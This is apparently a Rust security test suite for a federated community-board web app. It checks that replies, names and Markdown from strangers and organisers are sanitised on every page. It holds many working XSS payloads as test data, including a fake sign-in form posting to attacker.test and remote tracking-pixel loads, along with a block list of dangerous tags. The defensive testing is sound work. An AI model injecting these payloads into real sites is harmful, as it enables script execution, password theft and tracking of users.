//! What strangers and organisers write, on the pages that show it: nothing of it runs, loads, posts or leads astray.
//!
//! The same payloads are opened in a real browser by `browser.rs`; here every page is read as text.

use std::collections::HashSet;

use folkmoot_app::{associations, calls, items};
use folkmoot_domain::{
    items::Words,
    places::{Coarseness, Place},
    replies::ReplyState,
};
use folkmoot_tests::{
    associations::{Association, words},
    database::Database,
    peers::Stranger,
    world::World,
};
use serde_json::json;

use super::{routes, visitors::Visitor};

on_both_databases!(
    xss_03_mutations,
    xss_08_round_trips,
    xss_09_names_in_every_place,
    xss_12_forms_frames_and_bases,
    xss_13_nothing_is_fetched_from_elsewhere,
    xss_14_links_of_strangers,
    uni_01_names_that_turn_round,
    uni_03_floods_and_empty_names,
);

/// What must not stand in any page, whatever was written.
const NEVER: [&str; 19] = [
    "<script>",
    "<script ",
    "<svg",
    "<math",
    "<style",
    "<iframe",
    "<object",
    "<embed",
    "<base",
    "<template",
    "onerror=",
    "onload=",
    "onclick=",
    "onmouseover=",
    "javascript:",
    "vbscript:",
    "srcdoc",
    "formaction",
    "xlink:href",
];

/// Asserts that a page holds nothing of what may never stand in one. The page's own scripts and drawings are counted.
fn clean(what: &str, page: &str, own: &HashSet<String>) {
    for tag in tags(page).iter().filter(|tag| !own.contains(*tag)) {
        let bad =
            NEVER.iter().find(|never| tag.contains(**never) || *tag == never.trim_end_matches(['>', ' ']));
        assert!(bad.is_none(), "{what}: {tag}");
    }
}

/// Every tag, without what its attributes say, save addresses: as text, anything may be read.
fn tags(text: &str) -> HashSet<String> {
    let tag = |rest: &str| {
        let inside = rest.split('>').next().unwrap().to_lowercase();
        let mut tag = "<".to_owned();
        for (number, part) in inside.split('"').enumerate() {
            let said = number % 2 == 1;
            let address = ["href=", "src=", "action=", "srcset="].iter().any(|name| tag.ends_with(name));
            tag.push_str(if said && !address { "" } else { part });
        }
        tag
    };
    text.split('<').skip(1).map(tag).collect()
}

/// The tags of our own templates: what these pages hold while nobody has written anything bad.
fn own_tags(pages: &[(String, String)]) -> HashSet<String> {
    pages.iter().flat_map(|(_, text)| tags(text)).collect()
}

/// Every page that shows what was written about the call, as anybody and as its organiser.
async fn pages(world: &World, park: &Association<'_>, call: &str) -> Vec<(String, String)> {
    let ruth = Visitor::signed_in(world, &format!("{}@hyde.test", park.actor.handle)).await;
    let mut pages = Vec::new();
    let call = url::Url::parse(call).unwrap();
    let mut paths = vec![call.path().to_owned(), format!("/@{}", park.actor.handle)];
    let lists = routes::all().into_iter().filter(|route| route.get && !route.path.contains('{'));
    paths.extend(lists.map(|route| route.path));
    for (who, visitor) in [("anybody", &Visitor::anybody(world)), ("organiser", &ruth)] {
        for path in &paths {
            let answer = visitor.opens(path).await;
            if answer
                .headers
                .get("content-type")
                .is_some_and(|kind| kind.to_str().unwrap().starts_with("text/html"))
            {
                pages.push((format!("{path} as {who}"), answer.text()));
            }
        }
    }
    assert!(pages.len() >= 10, "{}", pages.len());
    pages
}

/// A board on which one stranger replied each of these, and all of it was approved by its organiser; the page's text.
async fn shown(
    database: Database,
    replies: &[&str],
    look: impl AsyncFnOnce(&World, &Association<'_>, &str, String),
) {
    let world = World::new(database, ["hyde.test"]).await;
    let park = world.home().found("park-friends").await;
    let call = park.call("Plant trees").await;
    let eve = world.server("attacker.test").person("eve");
    for text in replies {
        let mut reply = eve.reply(&call.seen.item.uri, &park.actor, "placeholder");
        reply["object"]["content"] = json!(text);
        eve.tells(&park.actor, &reply).await;
    }
    world.settle().await;
    let held = park.held().await;
    assert_eq!(held.len(), replies.len());
    for reply in &held {
        park.judge(reply, ReplyState::Approved).await;
    }
    world.settle().await;
    let page = park.instance.text_of(&call.seen.item.page).await;
    look(&world, &park, call.seen.item.page.as_str(), page).await;
}

async fn everywhere_clean(database: Database, payloads: &[&str]) {
    let plain = ["Hello, <b>all</b>."];
    let mut own = HashSet::new();
    shown(database, &plain, async |world, park, call, _| {
        own = own_tags(&pages(world, park, call).await);
    })
    .await;
    // With a word before it, so that there is something left to show.
    let payloads: Vec<String> = payloads.iter().map(|payload| format!("Listen: {payload}")).collect();
    let payloads: Vec<&str> = payloads.iter().map(String::as_str).collect();
    shown(database, &payloads, async |world, park, call, page| {
        assert!(page.matches("attacker.test").count() >= payloads.len(), "the replies are not shown: {page}");
        for (what, text) in pages(world, park, call).await {
            clean(&what, &text, &own);
        }
    })
    .await;
}

async fn xss_03_mutations(database: Database) {
    everywhere_clean(
        database,
        &[
            "a<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "a<svg><style><img src=x onerror=alert(1)></style></svg>",
            "a<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "a<template><script>alert(1)</script></template>",
            "a<!--><img src=x onerror=alert(1)>-->",
            "a<![CDATA[><script>alert(1)</script>]]>",
            "a<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "a<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "a<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "a<table><td><svg><desc><td><title><img src=x onerror=alert(1)></title>",
            "a<select><option><style></option></select><b><img src=x onerror=alert(1)></style>",
            "a<svg><animate attributeName=href values=javascript:alert(1) /><text>x</text></svg>",
            "a<p id=\"`\"><img src=x onerror=alert(1)>",
        ],
    )
    .await;
}

async fn xss_08_round_trips(database: Database) {
    let payloads = [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)",
        "`<img src=x onerror=alert(1)>`",
        "[link](javascript:alert(1))",
        "[link](java&#115;cript:alert(1) \"x\")",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n[x]",
        "# <img src=x onerror=alert(1)>",
        "```html\n<script>alert(1)</script>\n```",
        "<div markdown=1><script>alert(1)</script></div>",
        "\\<script\\>alert(1)\\</script\\>",
        "&#60;script&#62;alert(1)",
        "**<svg/onload=alert(1)>**",
    ];
    everywhere_clean(database, &payloads).await;
    // What organisers write in Markdown goes the same way.
    let world = World::new(database, ["hyde.test"]).await;
    let park = world.home().found("park-friends").await;
    let plain = park.call("Plant trees").await;
    let own = own_tags(&pages(&world, &park, plain.seen.item.page.as_str()).await);
    let (anybody, path) = (Visitor::anybody(&world), plain.seen.item.page.path());
    for payload in payloads {
        let words = Words { text: payload.to_owned(), ..words("Plant trees") };
        items::edit(&park.instance.app, &park.by, plain.seen.item.id, words, payload).await.unwrap();
        world.settle().await;
        for path in [path, "/", "/calls", "/calls.atom"] {
            clean(&format!("{path}: {payload}"), &anybody.opens(path).await.text(), &own);
        }
    }
}

/// XSS-09: a name that closes whatever it may stand in, in every field that has one.
async fn xss_09_names_in_every_place(database: Database) {
    let name = "\"'></title></script></textarea><script>alert(1)</script><img src=x onerror=alert(1)>";
    let world = World::new(database, ["hyde.test"]).await;
    let park = world.home().found("park-friends").await;
    let plain = park.call("Plant trees").await;
    let own = own_tags(&pages(&world, &park, plain.seen.item.page.as_str()).await);
    let changes = associations::Changes {
        name: Some(name.to_owned()),
        about: Some(name.to_owned()),
        ..Default::default()
    };
    associations::change(&park.instance.app, &park.by, park.actor.id, changes).await.unwrap();
    let mut titled = words(name);
    titled.place = Some(Place::parse(name, None, Coarseness::Exact).unwrap());
    items::edit(&park.instance.app, &park.by, plain.seen.item.id, titled, name).await.unwrap();
    calls::park(&park.instance.app, &park.by, plain.seen.item.id, name, None).await.unwrap();
    let eve = named(&world, "attacker.test", "eve", name);
    let other = park.call(&format!("Again {}", &name[..40])).await;
    eve.tells(&park.actor, &eve.reply(&other.seen.item.uri, &park.actor, name)).await;
    world.settle().await;
    for item in [&plain, &other] {
        for (what, text) in pages(&world, &park, item.seen.item.page.as_str()).await {
            clean(&what, &text, &own);
            assert!(!text.contains("<script>alert") && !text.contains("<img src=x"), "{what}");
        }
    }
    world.settle().await;
}

async fn xss_12_forms_frames_and_bases(database: Database) {
    everywhere_clean(
        database,
        &[
            "a<form action=https://attacker.test/><input name=password><button>Sign in</button></form>",
            "a<button formaction=https://attacker.test/>Sign in</button>",
            "a<meta http-equiv=refresh content=\"0;url=https://attacker.test/\">",
            "a<base href=https://attacker.test/>",
            "a<link rel=stylesheet href=https://attacker.test/x.css>",
            "a<iframe src=https://attacker.test/></iframe><frame src=x>",
            "a<object data=https://attacker.test/></object><embed src=x>",
            "a<p style=\"position:fixed;inset:0\">x</p>",
            "a<p class=\"button strong\" id=main>x</p>",
            "a<input type=hidden name=x form=y><textarea>",
        ],
    )
    .await;
    shown(database, &["a<form action=https://attacker.test/><meta http-equiv=refresh content=0><p style=x id=main class=strong>x</p>"], async |_, _, _, page| {
        let thread = thread(&page);
        for never in ["<form", "<meta", "<link", "<input", "style=", "id=main", "id=\"main\"", "class=\"strong"] {
            assert!(!thread.contains(never), "{never}: {thread}");
        }
    })
    .await;
}

async fn xss_13_nothing_is_fetched_from_elsewhere(database: Database) {
    let payloads = [
        "a<img src=https://attacker.test/pixel.png>",
        "a<img srcset=\"https://attacker.test/pixel.png 2x\">",
        "a<video src=http://attacker.test/v poster=http://attacker.test/p></video><audio src=http://attacker.test/a></audio>",
        "a<picture><source srcset=http://attacker.test/s></picture>",
        "a<p background=http://attacker.test/b style=\"background:url(http://attacker.test/u)\">x</p>",
        "a<link rel=prefetch href=https://attacker.test/p>",
        "a<a ping=https://attacker.test/ping href=https://attacker.test/>x</a>",
    ];
    shown(database, &payloads, async |world, park, call, _| {
        for (what, text) in pages(world, park, call).await {
            for rest in text
                .split("src=\"")
                .skip(1)
                .chain(text.split("srcset=\"").skip(1))
                .chain(text.split("poster=\"").skip(1))
            {
                assert!(
                    rest.starts_with('/') && !rest.starts_with("//"),
                    "{what}: {}",
                    &rest[..60.min(rest.len())]
                );
            }
            for never in ["ping=", "background=", "url(http"] {
                assert!(!text.contains(never), "{what}: {never}");
            }
        }
    })
    .await;
}

async fn xss_14_links_of_strangers(database: Database) {
    let replies = [
        "<a href=\"https://attacker.test/\" target=_blank rel=\"opener me\">x</a> <a href=\"//attacker.test\">y</a> https://attacker.test/z",
    ];
    shown(database, &replies, async |_, _, _, page| {
        let thread = thread(&page);
        let links: Vec<&str> = thread
            .split("<a ")
            .skip(1)
            .map(|rest| rest.split('>').next().unwrap())
            .filter(|tag| tag.contains("https://attacker.test/\""))
            .collect();
        assert!(!links.is_empty(), "the link is not shown: {thread}");
        for link in links {
            for word in ["nofollow", "noopener", "noreferrer", "ugc"] {
                assert!(link.contains(word), "{link}");
            }
            assert!(
                !link.contains("target") && !link.contains("rel=\"me") && !link.contains(" me\""),
                "{link}"
            );
        }
        assert!(!thread.contains("href=\"//"), "{thread}");
    })
    .await;
}

async fn uni_01_names_that_turn_round(database: Database) {
    let world = World::new(database, ["hyde.test"]).await;
    let park = world.home().found("park-friends").await;
    let turned = "Ruth\u{202e}rofakO\u{2066}\u{2067}";
    let changes = associations::Changes { name: Some(turned.to_owned()), ..Default::default() };
    associations::change(&park.instance.app, &park.by, park.actor.id, changes).await.unwrap();
    let call = park.call("Plant \u{202e}seert\u{2069}").await;
    let eve = named(&world, "attacker.test", "eve", turned);
    eve.tells(&park.actor, &eve.reply(&call.seen.item.uri, &park.actor, "Hello")).await;
    world.settle().await;
    park.judge(&park.held().await[0], ReplyState::Approved).await;
    world.settle().await;
    for (what, text) in pages(&world, &park, call.seen.item.page.as_str()).await {
        for turning in ['\u{202a}', '\u{202b}', '\u{202d}', '\u{202e}'] {
            assert!(!text.contains(turning), "{what}: {turning:?}");
        }
    }
    let page = park.instance.text_of(&call.seen.item.page).await;
    assert!(page.contains("RuthrofakO") && page.contains("Plant seert"), "{page}");
    let handle = page.find("@eve@attacker.test").expect("whoever replies is named");
    let before = page[..handle].rfind('<').unwrap();
    assert!(
        page[before..].starts_with("<bdi") || page[before..handle].contains("handle"),
        "{}",
        &page[before..handle]
    );
}

async fn uni_03_floods_and_empty_names(database: Database) {
    let world = World::new(database, ["hyde.test"]).await;
    let park = world.home().found("park-friends").await;
    let call = park.call("Plant trees").await;
    let flood = format!("Z{}", "\u{336}\u{34d}\u{31e}".repeat(3_000));
    let (zalgo, empty) = (
        named(&world, "attacker.test", "eve", &flood[..401]),
        named(&world, "nothing.test", "nobody", "\u{200b}\u{3164}\u{2066}"),
    );
    zalgo.tells(&park.actor, &zalgo.reply(&call.seen.item.uri, &park.actor, &flood)).await;
    empty.tells(&park.actor, &empty.reply(&call.seen.item.uri, &park.actor, "I am here")).await;
    world.settle().await;
    for reply in &park.held().await {
        park.judge(reply, ReplyState::Approved).await;
    }
    world.settle().await;
    for (what, text) in pages(&world, &park, call.seen.item.page.as_str()).await {
        let most = text
            .split(|c: char| !('\u{300}'..='\u{36f}').contains(&c))
            .map(|pile| pile.chars().count())
            .max();
        assert!(most <= Some(5), "{what}: {most:?} marks on one letter");
    }
    let page = park.instance.text_of(&call.seen.item.page).await;
    assert!(page.contains("I am here"));
    let named = page.find("@nobody@nothing.test").expect("whoever replies is named");
    // The handle stands in for a name that nobody can see.
    assert!(page[..named].contains(">nobody<"), "{}", &page[named.saturating_sub(400)..named]);
    // Here too: a name that nobody can see is none.
    let changes = associations::Changes { name: Some("\u{200b}\u{3164}".to_owned()), ..Default::default() };
    assert!(associations::change(&park.instance.app, &park.by, park.actor.id, changes).await.is_err());
}

/// Somebody elsewhere whose name is not that of their handle.
fn named(world: &World, host: &str, handle: &str, name: &str) -> Stranger {
    let stranger = world.server(host).person(handle);
    let mut actor = stranger.actor();
    actor["name"] = json!(name);
    stranger.publishes(&actor);
    stranger
}

/// What was answered, on the page of an item.
fn thread(page: &str) -> &str {
    let start = page
        .find("id=\"replies\"")
        .or_else(|| page.find("Updates and replies"))
        .expect("a page with replies");
    let end = page[start..].find("</section>").map_or(page.len(), |end| start + end);
    &page[start..end]
}

#[test]
fn what_is_looked_for_would_be_found() {
    let own = &tags("<p>Hello</p>");
    clean("good", "<p>Hello</p><b title=\"onclick=x\">x</b> &lt;script&gt;", own);
    for bad in [
        "<script>x</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:x\">",
        "<svg>",
        "<SVG onload=x>",
    ] {
        assert!(std::panic::catch_unwind(|| clean("bad", bad, own)).is_err(), "{bad}");
    }
}
